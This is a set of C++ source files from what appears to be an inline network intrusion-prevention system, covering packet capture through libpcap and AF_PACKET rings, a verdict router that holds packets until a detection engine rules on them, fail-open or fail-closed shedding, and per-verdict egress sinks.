  // Ring full (sized so this is exceptional) — the mutex keeps it correct.
  std::lock_guard<std::mutex> lk(edge_mu_);
  edge_events_.push_back(msg);
}

void VerdictRouter::on_reject(std::uint64_t ticket) {
  std::lock_guard<std::mutex> lk(edge_mu_);
  edge_events_.push_back(VerdictMsg{ticket, Resolution::reject});
}

void VerdictRouter::on_shed(std::uint64_t ticket) {
  std::lock_guard<std::mutex> lk(edge_mu_);
  edge_events_.push_back(VerdictMsg{ticket, Resolution::overload});
}

// --- feeder side -----------------------------------------------------------

void VerdictRouter::emit_shed(const net::Packet& pkt) {
  shed_.fetch_add(1, std::memory_order_relaxed);
  sink_.emit(pkt, cfg_.policy == HoldPolicy::fail_open
                      ? WireVerdict::shed_forward
                      : WireVerdict::shed_block);
}

void VerdictRouter::update_held_gauges() {
  const auto depth = static_cast<std::uint64_t>(hold_.size());
  held_depth_.store(depth, std::memory_order_relaxed);
  if (depth > held_peak_.load(std::memory_order_relaxed)) {
    held_peak_.store(depth, std::memory_order_relaxed);
  }
}

void VerdictRouter::submit(net::Packet&& pkt) {
  captured_.fetch_add(1, std::memory_order_relaxed);
  const std::uint64_t ticket = next_ticket_++;
  pkt.ticket = ticket;

  if (hold_.size() >= cfg_.hold_capacity) {
    poll();  // verdicts may already be waiting — free the front first
  }
  if (hold_.size() >= cfg_.hold_capacity) {
    hold_overflow_.fetch_add(1, std::memory_order_relaxed);
    if (cfg_.policy == HoldPolicy::fail_open) {
      // Forward unexamined, but STILL feed the engine: detection parity —
      // alerts and flow state must not depend on load. The verdict that
      // comes back is absorbed via the late-set.
      late_pending_.insert(ticket);
      pipe_.feed(pkt);
    }
    emit_shed(pkt);
    return;
  }

  const std::uint64_t now = clock_ns();
  pipe_.feed(pkt);  // borrowed: pipe copies, we keep the frame for egress
  hold_.push_back(Held{ticket, now, now + budget_ns_, Resolution::pending,
                       std::move(pkt)});
  update_held_gauges();
}

void VerdictRouter::resolve(std::uint64_t ticket, Resolution res) {
  if (auto it = late_pending_.find(ticket); it != late_pending_.end()) {
    late_pending_.erase(it);
    late_verdicts_.fetch_add(1, std::memory_order_relaxed);
    return;
  }
  if (hold_.empty()) return;  // stray (already released); conservation will tell
  // Tickets are issued and parked monotonically: binary search.
  const std::uint64_t base = hold_.front().ticket;
  if (ticket < base) return;
  const std::size_t idx = static_cast<std::size_t>(ticket - base);
  if (idx >= hold_.size() || hold_[idx].ticket != ticket) {
    // Overflow-shed tickets leave gaps, so the deque is not dense; fall
    // back to a real binary search.
    auto it = std::lower_bound(
        hold_.begin(), hold_.end(), ticket,
        [](const Held& h, std::uint64_t t) { return h.ticket < t; });
    if (it == hold_.end() || it->ticket != ticket) return;
    it->res = res;
    return;
  }
  hold_[idx].res = res;
}

std::size_t VerdictRouter::release_front(std::uint64_t now) {
  std::size_t released = 0;
  while (!hold_.empty()) {
    Held& h = hold_.front();
    if (h.res == Resolution::pending) {
      if (now < h.deadline_ns) break;  // head still inside budget: wait
      // Budget expired without a verdict. Shed per policy; the engine
      // still owes a verdict for this ticket — absorb it later.
      budget_expired_.fetch_add(1, std::memory_order_relaxed);
      late_pending_.insert(h.ticket);
      emit_shed(h.pkt);
      hold_.pop_front();
      ++released;
      continue;
    }
    switch (h.res) {
      case Resolution::accept:
        accepted_.fetch_add(1, std::memory_order_relaxed);
        verdict_latency_ns_.record(now - h.submit_ns);
        sink_.emit(h.pkt, WireVerdict::accept);
        break;
      case Resolution::drop:
        dropped_.fetch_add(1, std::memory_order_relaxed);
        verdict_latency_ns_.record(now - h.submit_ns);
        sink_.emit(h.pkt, WireVerdict::drop);
        break;
      case Resolution::divert:
        diverted_.fetch_add(1, std::memory_order_relaxed);
        verdict_latency_ns_.record(now - h.submit_ns);
        sink_.emit(h.pkt, WireVerdict::divert);
        break;
      case Resolution::reject:
        // Malformed at the parse edge — an inline IPS must not forward
        // what it cannot parse; this is a drop, not a shed.
        dropped_.fetch_add(1, std::memory_order_relaxed);
        rejected_malformed_.fetch_add(1, std::memory_order_relaxed);
        sink_.emit(h.pkt, WireVerdict::drop);
        break;
      case Resolution::overload:
        // The runtime shed it before any engine saw it: policy decides.
        overload_shed_.fetch_add(1, std::memory_order_relaxed);
        emit_shed(h.pkt);
        break;
      case Resolution::pending:
        break;  // unreachable
    }
    hold_.pop_front();
    ++released;
  }
  update_held_gauges();
  return released;
}

std::size_t VerdictRouter::poll() {
  // 1. Rare out-of-band events first (rejects happen at submit time, so
  //    they are usually older than anything in the rings).
  {
    std::lock_guard<std::mutex> lk(edge_mu_);
    edge_scratch_.swap(edge_events_);
  }
  for (const VerdictMsg& m : edge_scratch_) resolve(m.ticket, m.res);
  edge_scratch_.clear();

  // 2. Lane verdict rings, fully drained.
  VerdictMsg batch[kPollBatch];
  for (auto& ring : rings_) {
    std::size_t n;
    while ((n = ring->try_pop_batch(batch, kPollBatch)) > 0) {
      for (std::size_t i = 0; i < n; ++i) resolve(batch[i].ticket, batch[i].res);
    }
  }

  // 3. Release in ticket order; shed what blew its budget at the front.
  return release_front(clock_ns());
}

void VerdictRouter::finish() {
  pipe_.drain();
  // Verdict pushes happen-before the runtime's processed-count release,
  // and drain() acquires that count — so one poll now sees everything.
  poll();
  WireStats s = stats();
  if (!hold_.empty()) {
    throw Error("wire: conservation breach: " + std::to_string(hold_.size()) +
                " packets still held after drain (front ticket " +
                std::to_string(hold_.front().ticket) + ", res pending=" +
                std::to_string(hold_.front().res == Resolution::pending) +
                ") — a verdict was lost");
  }
  if (!late_pending_.empty()) {
    throw Error("wire: conservation breach: " +
                std::to_string(late_pending_.size()) +
                " shed packets never produced their owed verdict");
  }
  if (!s.conserved()) {
    throw Error("wire: conservation breach: captured=" +
                std::to_string(s.captured) + " != accepted=" +
                std::to_string(s.accepted) + " + dropped=" +
                std::to_string(s.dropped) + " + diverted=" +
                std::to_string(s.diverted) + " + shed=" +
                std::to_string(s.shed));
  }
}

void VerdictRouter::note_kernel_drops(std::uint64_t n) {
  kernel_dropped_.fetch_add(n, std::memory_order_relaxed);
}

WireStats VerdictRouter::stats() const {
  WireStats s;
  s.captured = captured_.load(std::memory_order_relaxed);
  s.accepted = accepted_.load(std::memory_order_relaxed);
  s.dropped = dropped_.load(std::memory_order_relaxed);
  s.diverted = diverted_.load(std::memory_order_relaxed);
  s.shed = shed_.load(std::memory_order_relaxed);
  s.budget_expired = budget_expired_.load(std::memory_order_relaxed);
  s.hold_overflow = hold_overflow_.load(std::memory_order_relaxed);
  s.overload_shed = overload_shed_.load(std::memory_order_relaxed);
  s.rejected_malformed = rejected_malformed_.load(std::memory_order_relaxed);
  s.kernel_dropped = kernel_dropped_.load(std::memory_order_relaxed);
  s.late_verdicts = late_verdicts_.load(std::memory_order_relaxed);
  s.held = hold_.size();
  s.held_peak = held_peak_.load(std::memory_order_relaxed);
  return s;
}

runtime::WireDropBreakdown VerdictRouter::wire_drops() const {
  runtime::WireDropBreakdown b;
  b.kernel_ring = kernel_dropped_.load(std::memory_order_relaxed);
  b.budget_expired = budget_expired_.load(std::memory_order_relaxed);
  b.hold_overflow = hold_overflow_.load(std::memory_order_relaxed);
  b.overload_shed = overload_shed_.load(std::memory_order_relaxed);
  return b;
}

void VerdictRouter::register_metrics(telemetry::MetricsRegistry& reg,
                                     const std::string& prefix) const {
  auto c = [&](const char* name, const char* unit,
               const std::atomic<std::uint64_t>* src) {
    reg.add_counter({prefix + "." + name, unit, "wire", true}, src);
  };
  c("captured", "packets", &captured_);
  c("accepted", "packets", &accepted_);
  c("dropped", "packets", &dropped_);
  c("diverted", "packets", &diverted_);
  c("shed", "packets", &shed_);
  c("shed_budget_expired", "packets", &budget_expired_);
  c("shed_hold_overflow", "packets", &hold_overflow_);
  c("shed_overload", "packets", &overload_shed_);
  c("rejected_malformed", "packets", &rejected_malformed_);
  c("capture_kernel_dropped", "packets", &kernel_dropped_);
  c("late_verdicts", "events", &late_verdicts_);
  reg.add_gauge({prefix + ".hold_depth", "packets", "wire", true},
                [this] { return held_depth_.load(std::memory_order_relaxed); });
  reg.add_gauge({prefix + ".hold_peak", "packets", "wire", true},
                [this] { return held_peak_.load(std::memory_order_relaxed); });
  reg.add_histogram({prefix + ".verdict_latency_ns", "ns", "wire", true},
                    &verdict_latency_ns_);
}

}  // namespace sdt::wire
