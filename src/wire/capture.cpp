#include "wire/capture.hpp"

#include <utility>

#include "pcap/pcapng.hpp"
#include "util/error.hpp"

#if defined(SDT_WITH_PCAP)
#include "wire/pcap_live.hpp"
#endif
#if defined(SDT_WITH_AFPACKET)
#include "wire/afpacket.hpp"
#endif

namespace sdt::wire {

const char* to_string(SourceKind k) {
  switch (k) {
    case SourceKind::file: return "file";
    case SourceKind::pcap_live: return "pcap";
    case SourceKind::afpacket: return "afpacket";
  }
  return "?";
}

bool backend_available(SourceKind k) {
  switch (k) {
    case SourceKind::file:
      return true;
    case SourceKind::pcap_live:
#if defined(SDT_WITH_PCAP)
      return true;
#else
      return false;
#endif
    case SourceKind::afpacket:
#if defined(SDT_WITH_AFPACKET)
      return true;
#else
      return false;
#endif
  }
  return false;
}

/// Thin ownership shim so capture.hpp need not include pcapng.hpp.
class FileSourceReader {
 public:
  explicit FileSourceReader(std::unique_ptr<pcap::CaptureReader> r)
      : reader(std::move(r)) {}
  std::unique_ptr<pcap::CaptureReader> reader;
};

FileSource::FileSource(std::string path, std::size_t repeat)
    : path_(std::move(path)), repeats_left_(repeat == 0 ? 1 : repeat) {
  reopen();
}

FileSource::FileSource(Bytes capture, std::size_t repeat)
    : capture_(std::move(capture)), repeats_left_(repeat == 0 ? 1 : repeat) {
  reopen();
}

FileSource::~FileSource() = default;

void FileSource::reopen() {
  auto r = path_.empty() ? pcap::open_capture(capture_)
                         : pcap::open_capture(path_);
  link_type_ = r->link_type();
  reader_ = std::make_unique<FileSourceReader>(std::move(r));
}

std::size_t FileSource::poll(std::vector<net::Packet>& out, std::size_t max) {
  std::size_t n = 0;
  while (n < max && !exhausted_) {
    std::optional<net::Packet> pkt = reader_->reader->next();
    if (!pkt) {
      // End of one pass. A capture truncated mid-file still ends cleanly
      // (the reader refuses to hand out a partial record) — count it so a
      // short replay is visible, not silent.
      if (reader_->reader->truncated()) ++stats_.truncated;
      if (--repeats_left_ == 0) {
        exhausted_ = true;
        reader_.reset();
        break;
      }
      reopen();
      continue;
    }
    out.push_back(std::move(*pkt));
    ++n;
  }
  stats_.delivered += n;
  return n;
}

std::unique_ptr<CaptureSource> open_source(const SourceSpec& spec) {
  switch (spec.kind) {
    case SourceKind::file:
      if (spec.target.empty()) {
        throw InvalidArgument("wire: file source needs a capture path");
      }
      return std::make_unique<FileSource>(spec.target, spec.repeat);
    case SourceKind::pcap_live:
#if defined(SDT_WITH_PCAP)
      return open_pcap_live(spec);
#else
      throw InvalidArgument(
          "wire: libpcap backend not in this build "
          "(reconfigure with -DSDT_WITH_PCAP=ON)");
#endif
    case SourceKind::afpacket:
#if defined(SDT_WITH_AFPACKET)
      return open_afpacket(spec);
#else
      throw InvalidArgument(
          "wire: AF_PACKET backend not in this build "
          "(reconfigure with -DSDT_WITH_AFPACKET=ON; Linux only)");
#endif
  }
  throw InvalidArgument("wire: unknown source kind");
}

}  // namespace sdt::wire
