#include "wire/afpacket.hpp"

#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <string>

#include "util/error.hpp"

namespace sdt::wire {

namespace {

std::string errno_text(const char* what) {
  return std::string("wire: ") + what + ": " + std::strerror(errno);
}

class AfPacketSource final : public CaptureSource {
 public:
  explicit AfPacketSource(const SourceSpec& spec) {
    fd_ = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd_ < 0) throw IoError(errno_text("socket(AF_PACKET)"));
    try {
      setup(spec);
    } catch (...) {
      teardown();
      throw;
    }
  }

  ~AfPacketSource() override { teardown(); }

  AfPacketSource(const AfPacketSource&) = delete;
  AfPacketSource& operator=(const AfPacketSource&) = delete;

  net::LinkType link_type() const override { return net::LinkType::ethernet; }
  const char* backend() const override { return "afpacket"; }
  bool exhausted() const override { return false; }

  std::size_t poll(std::vector<net::Packet>& out, std::size_t max) override {
    std::size_t n = 0;
    while (n < max) {
      auto* bd = block(cur_block_);
      if ((bd->hdr.bh1.block_status & TP_STATUS_USER) == 0) break;
      // Resume a partially consumed block, or start at its first frame.
      if (frames_left_ == 0) {
        frames_left_ = bd->hdr.bh1.num_pkts;
        frame_off_ = bd->hdr.bh1.offset_to_first_pkt;
      }
      auto* base = reinterpret_cast<std::uint8_t*>(bd);
      while (frames_left_ > 0 && n < max) {
        auto* tp = reinterpret_cast<tpacket3_hdr*>(base + frame_off_);
        std::uint64_t ts =
            static_cast<std::uint64_t>(tp->tp_sec) * 1'000'000ull +
            tp->tp_nsec / 1000;
        const std::uint8_t* data =
            reinterpret_cast<const std::uint8_t*>(tp) + tp->tp_mac;
        // The one mandatory copy: the block goes back to the kernel below.
        out.emplace_back(ts, Bytes(data, data + tp->tp_snaplen));
        if (tp->tp_snaplen < tp->tp_len) ++stats_.truncated;
        ++n;
        --frames_left_;
        frame_off_ = tp->tp_next_offset != 0
                         ? frame_off_ + tp->tp_next_offset
                         : 0;  // last frame; offset unused afterwards
      }
      if (frames_left_ > 0) break;  // out of max, block not finished
      bd->hdr.bh1.block_status = TP_STATUS_KERNEL;
      __sync_synchronize();
      cur_block_ = (cur_block_ + 1) % block_count_;
    }
    stats_.delivered += n;
    refresh_kernel_drops();
    return n;
  }

  CaptureStats stats() const override { return stats_; }

 private:
  void setup(const SourceSpec& spec) {
    int ver = TPACKET_V3;
    if (::setsockopt(fd_, SOL_PACKET, PACKET_VERSION, &ver, sizeof(ver)) != 0) {
      throw IoError(errno_text("setsockopt(PACKET_VERSION, TPACKET_V3)"));
    }

    unsigned ifindex = ::if_nametoindex(spec.target.c_str());
    if (ifindex == 0) {
      throw IoError(errno_text(("if_nametoindex(" + spec.target + ")").c_str()));
    }

    // Carve spec.buffer_bytes into 1 MiB blocks (page-multiple, large enough
    // for jumbo frames), at least two so the kernel always has a spare.
    constexpr std::size_t kBlockSize = 1u << 20;
    block_size_ = kBlockSize;
    block_count_ = spec.buffer_bytes / kBlockSize;
    if (block_count_ < 2) block_count_ = 2;

    tpacket_req3 req{};
    req.tp_block_size = static_cast<unsigned>(block_size_);
    req.tp_block_nr = static_cast<unsigned>(block_count_);
    req.tp_frame_size = 2048;  // v3 packs variable-size frames; nominal only
    req.tp_frame_nr = static_cast<unsigned>(
        block_size_ * block_count_ / req.tp_frame_size);
    req.tp_retire_blk_tov = 10;  // ms: hand partial blocks over promptly
    req.tp_feature_req_word = 0;
    if (::setsockopt(fd_, SOL_PACKET, PACKET_RX_RING, &req, sizeof(req)) != 0) {
      throw IoError(errno_text("setsockopt(PACKET_RX_RING)"));
    }

    map_len_ = block_size_ * block_count_;
    map_ = ::mmap(nullptr, map_len_, PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_LOCKED, fd_, 0);
    if (map_ == MAP_FAILED) {
      map_ = ::mmap(nullptr, map_len_, PROT_READ | PROT_WRITE, MAP_SHARED,
                    fd_, 0);
    }
    if (map_ == MAP_FAILED) {
      map_ = nullptr;
      throw IoError(errno_text("mmap(PACKET_RX_RING)"));
    }

    sockaddr_ll addr{};
    addr.sll_family = AF_PACKET;
    addr.sll_protocol = htons(ETH_P_ALL);
    addr.sll_ifindex = static_cast<int>(ifindex);
    if (::bind(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
      throw IoError(errno_text(("bind(" + spec.target + ")").c_str()));
    }

    if (spec.promiscuous) {
      packet_mreq mr{};
      mr.mr_ifindex = static_cast<int>(ifindex);
      mr.mr_type = PACKET_MR_PROMISC;
      if (::setsockopt(fd_, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr,
                       sizeof(mr)) != 0) {
        throw IoError(errno_text("setsockopt(PACKET_MR_PROMISC)"));
      }
    }
  }

  void teardown() {
    if (map_ != nullptr) {
      ::munmap(map_, map_len_);
      map_ = nullptr;
    }
    if (fd_ >= 0) {
      ::close(fd_);
      fd_ = -1;
    }
  }

  tpacket_block_desc* block(std::size_t i) {
    return reinterpret_cast<tpacket_block_desc*>(
        static_cast<std::uint8_t*>(map_) + i * block_size_);
  }

  void refresh_kernel_drops() {
    tpacket_stats_v3 st{};
    socklen_t len = sizeof(st);
    if (::getsockopt(fd_, SOL_PACKET, PACKET_STATISTICS, &st, &len) == 0) {
      // tp_drops resets on every read — accumulate directly.
      stats_.kernel_dropped += st.tp_drops;
    }
  }

  int fd_ = -1;
  void* map_ = nullptr;
  std::size_t map_len_ = 0;
  std::size_t block_size_ = 0;
  std::size_t block_count_ = 0;
  std::size_t cur_block_ = 0;
  std::uint32_t frames_left_ = 0;  // within the current user-owned block
  std::size_t frame_off_ = 0;
  CaptureStats stats_;
};

}  // namespace

std::unique_ptr<CaptureSource> open_afpacket(const SourceSpec& spec) {
  if (spec.target.empty()) {
    throw InvalidArgument("wire: afpacket source needs a device name");
  }
  return std::make_unique<AfPacketSource>(spec);
}

}  // namespace sdt::wire
