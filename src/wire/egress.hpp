// sdt::wire — the egress side of inline mode: the runtime's back door.
//
// The VerdictRouter releases every captured packet exactly once, in
// capture order, with a terminal WireVerdict; a VerdictSink is what
// "forward" and "drop" mean for a given deployment (a TX socket, a pcap
// file, a test's ledger). Sinks run on the router's (feeder) thread.
#pragma once

#include <cstdint>
#include <memory>
#include <string>

#include "net/packet.hpp"
#include "pcap/pcap.hpp"

namespace sdt::wire {

/// Terminal fate of a captured packet. The conservation buckets map as:
/// accept → accepted, drop → dropped, divert → diverted, shed_* → shed.
enum class WireVerdict : std::uint8_t {
  accept,        ///< engine said forward
  drop,          ///< engine alerted (or the frame was malformed)
  divert,        ///< slow path took the flow; packet forwarded post-inspection
  shed_forward,  ///< no verdict in budget — forwarded unexamined (fail-open)
  shed_block,    ///< no verdict in budget — blocked (fail-closed)
};

inline const char* to_string(WireVerdict v) {
  switch (v) {
    case WireVerdict::accept: return "accept";
    case WireVerdict::drop: return "drop";
    case WireVerdict::divert: return "divert";
    case WireVerdict::shed_forward: return "shed_forward";
    case WireVerdict::shed_block: return "shed_block";
  }
  return "?";
}

/// True when the packet leaves the box (what a TX egress must transmit).
inline bool forwards(WireVerdict v) {
  return v == WireVerdict::accept || v == WireVerdict::divert ||
         v == WireVerdict::shed_forward;
}

class VerdictSink {
 public:
  virtual ~VerdictSink() = default;
  /// Called exactly once per captured packet, in capture order, on the
  /// router's thread. The packet is only valid for the duration of the
  /// call (the router recycles/destroys it after).
  virtual void emit(const net::Packet& pkt, WireVerdict v) = 0;
};

/// Drop everything on the floor silently (pure-detection runs).
class NullSink final : public VerdictSink {
 public:
  void emit(const net::Packet&, WireVerdict) override {}
};

/// Per-verdict ledger — the test/bench workhorse, and the gateway's
/// forwarding accountant.
class CountingSink final : public VerdictSink {
 public:
  void emit(const net::Packet& pkt, WireVerdict v) override {
    ++counts_[static_cast<std::size_t>(v)];
    if (forwards(v)) forwarded_bytes_ += pkt.frame.size();
    ++total_;
  }

  std::uint64_t count(WireVerdict v) const {
    return counts_[static_cast<std::size_t>(v)];
  }
  std::uint64_t total() const { return total_; }
  std::uint64_t forwarded_bytes() const { return forwarded_bytes_; }

 private:
  std::uint64_t counts_[5] = {};
  std::uint64_t total_ = 0;
  std::uint64_t forwarded_bytes_ = 0;
};

/// Write every *forwarded* frame (accept/divert/shed_forward) to a pcap
/// file — the offline stand-in for a TX interface, and a directly
/// diffable artifact ("what would this IPS have let through"). Chains to
/// `next` (if given) so it composes with CountingSink.
class PcapEgressSink final : public VerdictSink {
 public:
  PcapEgressSink(const std::string& path, net::LinkType lt,
                 VerdictSink* next = nullptr)
      : writer_(path, lt), next_(next) {}

  void emit(const net::Packet& pkt, WireVerdict v) override {
    if (forwards(v)) writer_.write(pkt);
    if (next_ != nullptr) next_->emit(pkt, v);
  }

  std::uint64_t packets_written() const { return writer_.packets_written(); }

 private:
  pcap::Writer writer_;
  VerdictSink* next_;
};

}  // namespace sdt::wire
