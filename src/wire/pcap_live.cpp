#include "wire/pcap_live.hpp"

#include <pcap/pcap.h>

#include <string>

#include "util/error.hpp"

namespace sdt::wire {

namespace {

class PcapLiveSource final : public CaptureSource {
 public:
  explicit PcapLiveSource(const SourceSpec& spec) {
    char errbuf[PCAP_ERRBUF_SIZE] = {};
    pcap_ = pcap_create(spec.target.c_str(), errbuf);
    if (pcap_ == nullptr) {
      throw IoError("wire: pcap_create(" + spec.target + "): " + errbuf);
    }
    pcap_set_snaplen(pcap_, static_cast<int>(spec.snaplen));
    pcap_set_promisc(pcap_, spec.promiscuous ? 1 : 0);
    pcap_set_timeout(pcap_, 1);  // ms; we poll, the timeout just unblocks
    pcap_set_buffer_size(pcap_, static_cast<int>(spec.buffer_bytes));
    pcap_set_immediate_mode(pcap_, 1);
    int rc = pcap_activate(pcap_);
    if (rc < 0) {
      std::string msg = pcap_geterr(pcap_);
      pcap_close(pcap_);
      pcap_ = nullptr;
      throw IoError("wire: pcap_activate(" + spec.target + "): " + msg);
    }
    if (pcap_setnonblock(pcap_, 1, errbuf) != 0) {
      pcap_close(pcap_);
      pcap_ = nullptr;
      throw IoError("wire: pcap_setnonblock(" + spec.target + "): " + errbuf);
    }
    int dlt = pcap_datalink(pcap_);
    switch (dlt) {
      case DLT_EN10MB: link_type_ = net::LinkType::ethernet; break;
      case DLT_RAW: link_type_ = net::LinkType::raw_ipv4; break;
      default:
        pcap_close(pcap_);
        pcap_ = nullptr;
        throw ParseError("wire: unsupported libpcap link type " +
                         std::to_string(dlt) + " on " + spec.target);
    }
    snaplen_ = spec.snaplen;
  }

  ~PcapLiveSource() override {
    if (pcap_ != nullptr) pcap_close(pcap_);
  }

  PcapLiveSource(const PcapLiveSource&) = delete;
  PcapLiveSource& operator=(const PcapLiveSource&) = delete;

  net::LinkType link_type() const override { return link_type_; }
  const char* backend() const override { return "pcap"; }
  bool exhausted() const override { return false; }

  std::size_t poll(std::vector<net::Packet>& out, std::size_t max) override {
    DispatchCtx ctx{this, &out, 0};
    int rc = pcap_dispatch(pcap_, static_cast<int>(max), &on_packet,
                           reinterpret_cast<u_char*>(&ctx));
    if (rc < 0 && rc != PCAP_ERROR_BREAK) {
      throw IoError(std::string("wire: pcap_dispatch: ") + pcap_geterr(pcap_));
    }
    stats_.delivered += ctx.appended;
    refresh_kernel_drops();
    return ctx.appended;
  }

  CaptureStats stats() const override { return stats_; }

 private:
  struct DispatchCtx {
    PcapLiveSource* self;
    std::vector<net::Packet>* out;
    std::size_t appended;
  };

  static void on_packet(u_char* user, const pcap_pkthdr* hdr,
                        const u_char* bytes) {
    auto* ctx = reinterpret_cast<DispatchCtx*>(user);
    std::uint64_t ts =
        static_cast<std::uint64_t>(hdr->ts.tv_sec) * 1'000'000ull +
        static_cast<std::uint64_t>(hdr->ts.tv_usec);
    // One mandatory copy out of libpcap's buffer, which it reuses after
    // this callback returns.
    ctx->out->emplace_back(ts, Bytes(bytes, bytes + hdr->caplen));
    if (hdr->caplen < hdr->len) ++ctx->self->stats_.truncated;
    ++ctx->appended;
  }

  void refresh_kernel_drops() {
    pcap_stat ps{};
    if (pcap_stats(pcap_, &ps) == 0) {
      // ps_drop is a running total since activation.
      std::uint64_t total = ps.ps_drop;
      if (total > last_ps_drop_) {
        stats_.kernel_dropped += total - last_ps_drop_;
        last_ps_drop_ = total;
      }
    }
  }

  pcap_t* pcap_ = nullptr;
  net::LinkType link_type_ = net::LinkType::ethernet;
  std::uint32_t snaplen_ = 0;
  std::uint64_t last_ps_drop_ = 0;
  CaptureStats stats_;
};

}  // namespace

std::unique_ptr<CaptureSource> open_pcap_live(const SourceSpec& spec) {
  if (spec.target.empty()) {
    throw InvalidArgument("wire: pcap live source needs a device name");
  }
  return std::make_unique<PcapLiveSource>(spec);
}

}  // namespace sdt::wire
