// sdt::wire::VerdictRouter — the inline verdict path.
//
// In tap mode a captured packet is fed to the runtime and forgotten; in
// inline mode it must be HELD until the engine says forward/divert/alert,
// because "drop" only means something while the packet has not left yet.
// The router owns that hold:
//
//   submit(pkt) ──► ticket = N, feed pipe (borrowed — one arena copy),
//                   park {ticket, frame, deadline} in the hold deque
//   lane thread ──► VerdictFeedback::on_verdict(lane, ticket, action)
//                   → per-lane SPSC verdict ring (lock-free)
//   poll()      ──► drain rings + edge events, mark hold entries,
//                   release from the FRONT only → VerdictSink::emit(...)
//
// Ordering: tickets are issued monotonically and released strictly in
// ticket order (the deque front gates every release), so capture order —
// and therefore per-flow order — is preserved on egress no matter how
// lanes interleave.
//
// Budget: every held packet carries deadline = submit + latency_budget.
// When the front entry's deadline passes without a verdict, the router
// sheds it — forwarding it unexamined (fail-open) or blocking it
// (fail-closed) — and remembers the ticket in a late-set so the verdict,
// which WILL still arrive (the packet is in the engine), is absorbed
// exactly once instead of double-counting.
//
// Conservation law, asserted by finish() and checkable any time:
//   captured == accepted + dropped + diverted + shed.
// Every captured packet lands in exactly one bucket; shed further splits
// into budget_expired + hold_overflow + overload_shed (the mirror the
// runtime's StatsSnapshot::wire shows, plus capture kernel drops).
//
// Threads: submit/poll/finish/stats on the single feeder thread (the same
// thread that may call Runtime::feed). on_verdict arrives on lane
// threads; on_reject/on_shed on dispatching threads. wire_drops() and the
// registered metrics are safe from any thread.
#pragma once

#include <atomic>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <unordered_set>
#include <vector>

#include "core/verdict.hpp"
#include "runtime/runtime.hpp"
#include "runtime/spsc_ring.hpp"
#include "runtime/verdict_feedback.hpp"
#include "telemetry/histogram.hpp"
#include "telemetry/registry.hpp"
#include "wire/egress.hpp"

namespace sdt::wire {

/// What to do with a packet the engine could not judge in time (hold
/// buffer full, or latency budget expired): let it through unexamined, or
/// block it. Security-default is fail_closed; availability-default is
/// fail_open.
enum class HoldPolicy : std::uint8_t { fail_open, fail_closed };

inline const char* to_string(HoldPolicy p) {
  return p == HoldPolicy::fail_open ? "fail-open" : "fail-closed";
}

struct RouterConfig {
  /// Max packets parked awaiting a verdict. Beyond this, submits shed.
  std::size_t hold_capacity = 4096;
  /// Per-packet verdict deadline; past it the packet is shed (policy).
  std::uint64_t latency_budget_us = 2000;
  HoldPolicy policy = HoldPolicy::fail_closed;
  /// Extra per-lane verdict-ring slots beyond hold_capacity +
  /// in_flight_bound (the ring overflowing is not a correctness problem —
  /// there is a mutex fallback — just a slow path).
  std::size_t ring_slack = 1024;
  /// Clock seam (tests): monotonic nanoseconds. Null = steady_clock.
  std::function<std::uint64_t()> now_ns;
};

/// The router's view of the engine: feed one borrowed frame toward a
/// verdict, and drain until every fed frame is accounted for. Runtime is
/// the production implementation (RuntimePipe); tests substitute a fake
/// to drive verdicts deterministically.
class InlinePipe {
 public:
  virtual ~InlinePipe() = default;
  virtual std::size_t lanes() const = 0;
  /// Feed one frame (pkt.ticket already stamped). The callee copies what
  /// it needs; the caller keeps the buffer. May block (backpressure).
  virtual void feed(const net::Packet& pkt) = 0;
  /// Block until every fed frame has produced its feedback callback.
  virtual void drain() = 0;
  /// Upper bound on frames inside the pipe (fed, no feedback yet) — sizes
  /// the verdict rings so lane-side pushes never contend in steady state.
  virtual std::size_t in_flight_bound() const = 0;
};

/// Production pipe: an already-configured (not yet started) Runtime.
/// Install the router with rt.set_verdict_feedback(&router) before
/// rt.start(); feed_borrowed keeps the copy count at one.
class RuntimePipe final : public InlinePipe {
 public:
  explicit RuntimePipe(runtime::Runtime& rt) : rt_(rt) {}
  std::size_t lanes() const override { return rt_.lanes(); }
  void feed(const net::Packet& pkt) override { rt_.feed_borrowed(pkt); }
  void drain() override { rt_.drain(); }
  std::size_t in_flight_bound() const override {
    const auto& c = rt_.config();
    return rt_.lanes() * (c.ring_capacity + 2 * c.dispatch_batch) +
           rt_.dispatchers() * c.ingest_capacity + 64;
  }

 private:
  runtime::Runtime& rt_;
};

/// Feeder-thread snapshot of the router's ledger.
struct WireStats {
  std::uint64_t captured = 0;
  std::uint64_t accepted = 0;   ///< engine forward → egressed
  std::uint64_t dropped = 0;    ///< engine alert or malformed frame
  std::uint64_t diverted = 0;   ///< slow path examined, then egressed
  std::uint64_t shed = 0;       ///< no verdict in time (see breakdown)
  std::uint64_t budget_expired = 0;
  std::uint64_t hold_overflow = 0;
  std::uint64_t overload_shed = 0;
  std::uint64_t rejected_malformed = 0;  ///< subset of dropped
  std::uint64_t kernel_dropped = 0;      ///< capture-side (outside conservation)
  std::uint64_t late_verdicts = 0;  ///< verdicts for already-shed tickets
  std::uint64_t held = 0;           ///< parked right now
  std::uint64_t held_peak = 0;

  /// The inline conservation law.
  bool conserved() const {
    return captured == accepted + dropped + diverted + shed;
  }
};

class VerdictRouter final : public runtime::VerdictFeedback,
                            public runtime::WireStatsSource {
 public:
  /// `pipe` and `sink` must outlive the router. Wire the router into the
  /// runtime (set_verdict_feedback + attach_wire_stats) before start().
  VerdictRouter(InlinePipe& pipe, VerdictSink& sink, RouterConfig cfg = {});
  ~VerdictRouter() override;

  VerdictRouter(const VerdictRouter&) = delete;
  VerdictRouter& operator=(const VerdictRouter&) = delete;

  /// Take ownership of one captured frame, stamp its ticket, feed the
  /// pipe, and hold it for a verdict. Sheds immediately (per policy) when
  /// the hold buffer is full even after a poll. Feeder thread.
  void submit(net::Packet&& pkt);

  /// Drain verdict rings and edge events, resolve hold entries, release
  /// everything releasable from the front (in ticket order), shed
  /// past-deadline front entries. Returns packets released to the sink.
  /// Feeder thread; call at least once per submitted batch.
  std::size_t poll();

